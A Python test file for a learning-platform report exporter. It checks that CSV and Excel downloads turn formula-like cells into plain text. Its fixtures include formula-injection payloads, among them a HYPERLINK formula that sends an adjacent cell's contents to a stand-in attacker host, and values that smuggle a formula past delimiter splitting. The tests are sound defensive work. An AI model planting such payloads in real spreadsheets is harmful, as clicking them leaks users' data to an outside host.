"""Downloads open as plain text in spreadsheets: a name typed by a user never runs as a formula."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from lms.reports.exports import Sheet, as_csv, as_xlsx

EVIL = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def sheet() -> Sheet:
    return Sheet("Participants", [("Group", EVIL[0]), ("Union", EVIL[4])], ["Country", "women", "men"],
                 [[name, 7, "<5"] for name in EVIL] + [["Peru", 12, 9]])


def test_csv_cells_that_look_like_formulas_are_text(app_ctx):
    rows = list(csv.reader(io.StringIO(as_csv(sheet()).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
    assert "'" + EVIL[0] in cells and ["Peru", "12", "9"] in rows and ["'+1+1", "7", "<5"] in rows


def test_xlsx_cells_that_look_like_formulas_are_text(app_ctx):
    book = load_workbook(as_xlsx(sheet()))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + EVIL[0] in [cell.value for cell in cells]
    assert 12 in [cell.value for cell in cells]


def test_csv_cells_split_by_a_semicolon_or_comma_locale_hold_no_formula(app_ctx):
    """Excel set to split on ";" (or ",", or a tab) cuts a cell there: no piece may start a formula."""
    names = ['Lima 2027;=HYPERLINK("http://evil.example/?"&A3;"Click")', "a,+1+1", "b\t-2+3", "c;@SUM(A1)",
             "d\n=1", "e; =2"]
    data = as_csv(Sheet("Groups", [], ["Group", "n"], [[name, 7] for name in names])).decode("utf-8-sig")
    for delimiter in (";", ",", "\t"):
        cells = [cell for row in csv.reader(io.StringIO(data), delimiter=delimiter) for cell in row]
        pieces = [piece for cell in cells for piece in cell.replace("\n", ";").split(";")]
        assert not any(piece.strip('" ').startswith(("=", "+", "-", "@")) for piece in pieces), (delimiter, pieces)
    assert [name for row in csv.reader(io.StringIO(data)) for name in row if name.startswith("Lima")][0] == "Lima 2027;'=HYPERLINK(\"http://evil.example/?\"&A3;\"Click\")"
